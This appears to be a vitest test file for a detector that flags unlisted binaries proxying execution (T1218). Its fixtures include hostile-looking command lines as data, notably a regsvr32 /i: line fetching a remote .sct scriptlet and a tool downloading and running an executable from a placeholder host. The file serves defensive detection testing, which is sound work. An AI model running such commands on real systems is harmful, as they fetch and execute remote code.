import { describe, expect, it } from "vitest";
import { file, load, PUBLIC, S32, start } from "../../../test/support/chains/story.ts";
import { anEvent, aStart, testCatalog } from "../../../test/support/events.ts";
import { ORDINARY, PROXIES } from "../../../test/support/proxies.ts";
import type { Event } from "../../model/event.ts";
import type { Finding } from "../../model/finding.ts";
import { atLeast } from "../../model/level.ts";
import { createDetector } from "../detector.ts";
import type { Link } from "./types.ts";

function findings(events: readonly Event[], onLink?: (link: Link) => void): readonly Finding[] {
  const options = { catalog: testCatalog(), minLevel: "informational", ...(onLink && { onLink }) } as const;
  const detector = createDetector(options);
  const found = events.flatMap((event) => detector.push(event));
  return [...found, ...detector.end()];
}
const grave = (found: readonly Finding[]) => found.filter(({ level }) => atLeast(level, "medium"));
const shortId = ({ behaviour }: Finding) => behaviour.split("/").at(-1);

describe("a proxy that nobody has listed", () => {
  it.each(PROXIES)("is told by $name", ({ events, told, text }) => {
    const found = grave(findings(events)).filter(({ behaviour }) => behaviour.includes("uncatalogued"));
    expect(found.map(shortId)).toEqual([told]);
    const [finding] = found as [Finding];
    expect(finding.techniques).toContain("T1218");
    expect(finding.source.index).toBe(events[0]?.record.index);
    const payloads = [...finding.runs, ...finding.fetches, ...finding.writes].map(({ value }) => value);
    if (text !== undefined) expect(payloads).toContain(text);
    const said = finding.evidence.filter(({ id }) => id.startsWith("proxy-"));
    expect(said.map(({ text: words }) => words).join(" ")).toMatch(/names|code/);
    expect(said.find(({ id }) => id === "proxy-habit")?.text).toMatch(/not seen to do so on this host before\.$/);
    expect(said.flatMap(({ events: refs }) => refs.map(({ index }) => index))).toContain(events[1]?.record.index);
  });

  it.each(ORDINARY)("is not made of $name", ({ events }) => {
    const made = grave(findings(events)).filter(({ behaviour }) => !behaviour.includes("/chains/"));
    expect(made).toEqual([]);
  });

  it("is told with how often it was seen here before", () => {
    const again = [0, 1, 2].flatMap((turn) => [
      start(turn * 900, `T${turn}`, `${S32}quincetool.exe`, `quincetool.exe /p:${PUBLIC}a${turn}.dll`),
      load(turn * 900 + 1, `T${turn}`, `${S32}quincetool.exe`, `${PUBLIC}a${turn}.dll`),
    ]);
    const texts = grave(findings(again)).map(({ evidence }) => evidence.find(({ id }) => id === "proxy-habit")?.text);
    expect(texts).toEqual([
      "quincetool.exe was not seen to do so on this host before.",
      "quincetool.exe was seen to do so once on this host before.",
      "quincetool.exe was seen to do so 2 times on this host before.",
    ]);
  });

  it("is one finding, however many of its acts are logged, and of what weighs most", () => {
    const tool = `${S32}quincetool.exe`;
    const found = grave(
      findings([
        start(0, "T", tool, `quincetool.exe /from:https://files.example.net/a.exe /to:${PUBLIC}a.exe`),
        anEvent("networkConnection", 1, {
          process: { key: "id:T", pid: 84, image: tool },
          initiated: true,
          destinationIp: "203.0.113.7",
          destinationHost: "files.example.net",
        }),
        file(2, "T", tool, `${PUBLIC}a.exe`),
        start(3, "C", `${PUBLIC}a.exe`, `${PUBLIC}a.exe`, "T", tool),
      ]),
    ).filter(({ behaviour }) => behaviour.includes("uncatalogued"));
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({
      behaviour: "windows/quincetool/uncatalogued-start",
      fetches: [{ value: "https://files.example.net/a.exe" }],
      writes: [{ value: `${PUBLIC}a.exe` }],
      runs: [{ value: `${PUBLIC}a.exe` }],
    });
  });

  it("is a wrapper of what it starts, where that is grave itself", () => {
    const line = `regsvr32.exe /s /u /i:https://files.example.net/a.sct scrobj.dll`;
    const found = grave(
      findings([
        start(0, "T", `${S32}quincetool.exe`, `quincetool.exe -c "${line}"`),
        start(1, "C", `${S32}regsvr32.exe`, line, "T", `${S32}quincetool.exe`),
      ]),
    );
    expect(found).toHaveLength(1);
    expect(found[0]?.related.map(({ role }) => role)).toContain("wrapper");
    expect(found[0]?.evidence.find(({ id }) => id === "proxy-start")?.text).toMatch(/^quincetool\.exe was told/);
  });

  it("is known by the signature, where a log has one", () => {
    const image = "C:\\Users\\ada\\AppData\\Local\\Orchard\\gate.exe";
    const events = (signed: boolean) => [
      aStart(0, "T", image, `gate.exe --plugin ${PUBLIC}a.dll`, "X", {
        signature: { signed, signer: "Orchard", status: "Valid" },
      }),
      load(1, "T", image, `${PUBLIC}a.dll`),
    ];
    expect(grave(findings(events(true))).map(shortId)).toEqual(["uncatalogued-load"]);
    expect(grave(findings(events(false)))).toEqual([]);
  });

  it("is told of to those who ask for every link, explained ones left out", () => {
    const links: Link[] = [];
    const add = (link: Link) => links.push(link);
    findings(
      [start(0, "R", "regsvr32.exe", `regsvr32 /s ${PUBLIC}a.dll`), load(1, "R", "regsvr32.exe", `${PUBLIC}a.dll`)],
      add,
    );
    const within = { platform: "linux", parent: { key: "id:D", pid: 68, image: "/usr/bin/dash" } };
    findings(
      [
        aStart(2, "D", "/usr/bin/dash", 'sh -c "timeout 20 curl http://127.0.0.1/"', "?", { platform: "linux" }),
        aStart(3, "T", "/usr/bin/timeout", "timeout 20 curl http://127.0.0.1/", "D", within),
      ],
      add,
    );
    expect(links).toEqual([]);
    findings(PROXIES[0]?.events ?? [], add);
    expect(links).toMatchObject([{ act: "load", option: "--plugin", text: `${PUBLIC}a.dll` }]);
  });
});
